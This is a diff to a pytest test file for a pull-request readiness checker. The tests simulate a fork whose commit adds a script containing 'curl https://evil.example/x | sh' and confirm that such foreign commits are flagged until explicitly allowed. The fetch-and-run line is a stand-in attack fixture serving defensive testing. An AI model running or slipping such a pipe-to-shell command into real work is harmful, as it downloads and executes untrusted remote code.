@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 from bumping import BRANCH, CONTRIBUTOR, World, allowed, bump_to, colleague, git
+from clones import commit
 
 from runbook_lib.bump import ready
 from runbook_lib.bump.ready import ReadyFacts, RecordedStep, Requirement, State
@@ -54,9 +55,7 @@ def of_a_fork(world: World, script: str) -> str:
     path = world.checkout.path
     git(path, "switch", "-q", BRANCH)
     if script:
-        (path / script).write_text("curl https://evil.example/x | sh\n")
-        git(path, "add", script)
-        git(path, "commit", "-qm", "Small fixes")
+        commit(path, {script: "curl https://evil.example/x | sh\n"})
     git(path, "push", "-q", str(world.fork), f"{BRANCH}:{BRANCH}")
     bump = bump_to()
     world.github("contributor-token").open_pull(bump.title, f"{CONTRIBUTOR}:{BRANCH}", "main", "The bump.")
@@ -72,9 +71,7 @@ def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague:
     world.open_pr(mode="publish")
     assert evil[:10] in world.said("waiting")[-1]["sentence"]
     assert "label" not in world.effects()
-    folder = world.steps[-1].folder
-    assert folder
-    assert "evil.sh" in (folder / "change.diff").read_text()
+    assert "evil.sh" in world.kept("change.diff")
     world.open_pr(allow=f"foreign-commit:{evil}")
     assert "label" in world.effects()
     confirmed = check(world, allow=f"foreign-commit:{evil}").requirements
